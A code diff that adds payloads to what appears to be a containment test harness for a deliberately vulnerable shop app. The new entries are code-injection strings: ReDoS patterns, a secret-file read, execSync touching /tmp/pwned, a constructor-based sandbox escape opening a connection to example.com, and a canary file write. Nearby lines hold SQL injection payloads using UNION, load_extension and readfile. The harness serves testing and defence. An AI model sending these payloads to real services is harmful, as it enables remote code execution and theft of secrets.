@@ -95,6 +95,16 @@ function payloads({ canary, secret, dataDir }) {
   ]) {
     list.push([`evaluator ${code.slice(0, 40)}`, { method: 'POST', path: '/b2b/v2/orders', body: { cid: 'JS0815DE', orderLinesData: code } }]);
   }
+  // Successful RCE DoS (intended: only the regular-expression matches run, in node:vm, stopped after 1 s).
+  for (const code of [
+    "/(a+)+b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')",
+    `/(a+)+b/.test(require('fs').readFileSync('${secret}', 'utf8'))`,
+    `'${'a'.repeat(30)}!'.match(/^(a|aa)+$/) && require('child_process').execSync('touch /tmp/pwned')`,
+    "/(?:)/.test(this.constructor.constructor('return process')().mainModule.require('net').connect(80, 'example.com'))",
+    `/x/.test(String(import('node:fs').then((fs) => fs.writeFileSync('${canary}/evaluated.txt', 'x'))))`,
+  ]) {
+    list.push([`regex evaluator ${code.slice(0, 40)}`, { method: 'POST', path: '/b2b/v2/orders', body: { cid: 'JS0815DE', orderLinesData: code } }]);
+  }
   // SQL through the search injection (intended: reads the shop's own tables only).
   for (const sql of [
     "x')) UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master--", `x')) UNION SELECT load_extension('${canary}/x'),2,3,4,5,6,7,8,9--`, `x')) UNION SELECT readfile('${secret}'),2,3,4,5,6,7,8,9--`,
